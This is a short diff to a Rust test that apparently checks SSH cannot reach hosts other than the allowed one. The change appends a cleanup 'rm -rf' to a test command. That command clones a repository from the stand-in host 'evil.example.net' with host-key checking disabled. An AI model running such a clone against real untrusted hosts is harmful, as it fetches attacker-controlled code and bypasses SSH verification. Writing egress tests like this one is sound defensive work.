@@ -148,7 +148,7 @@ fn k9_ssh_reaches_no_other_host() {
             )
         };
         let git = "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' git clone -q \
-                   ssh://git@evil.example.net/~/repo.git /tmp/evil-$$";
+                   ssh://git@evil.example.net/~/repo.git /tmp/evil-$$ && rm -rf /tmp/evil-$$";
         let attacks = [
             ("another name", to("evil.example.net")),
             ("an address", to("93.184.216.34")),
